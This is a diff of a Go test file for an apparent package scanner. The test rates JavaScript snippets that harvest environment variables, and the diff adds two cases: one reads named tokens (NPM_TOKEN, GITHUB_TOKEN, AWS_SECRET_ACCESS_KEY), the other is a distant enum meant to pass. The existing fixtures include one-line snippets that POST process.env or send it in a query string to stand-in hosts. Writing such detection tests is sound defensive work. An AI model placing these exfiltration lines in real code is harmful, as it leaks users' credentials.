@@ -13,6 +13,10 @@ func TestEnvHarvest(t *testing.T) {
 		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityCritical},
 		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityCritical},
 		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityCritical},
+		// names read through a list; in a bundle only the list next to the read
+		{"indexed_list", map[string]string{"index.js": `for (const k of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]) out[k] = process.env[k]`}, finding.SeverityMedium},
+		{"indexed_far_enum", map[string]string{"index.js": `const get = (k) => globalThis.process.env[k];` + strings.Repeat("\n// padding", 7000) +
+			`var A = {}; A["API_KEY_AUTH"] = "API_KEY_AUTH"; A["HTTP_BASIC_AUTH"] = "HTTP_BASIC_AUTH"; A["OIDC_AUTH"] = "OIDC_AUTH";`}, finding.SeverityNone},
 		{"env_in_options", map[string]string{"index.js": `configure({ environment: process.env })`}, finding.SeverityMedium},
 		// a config loader looking for its prefix, with nothing to send it
 		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) { if (k.startsWith("DEBUG_")) use(k) }`}, finding.SeverityLow},
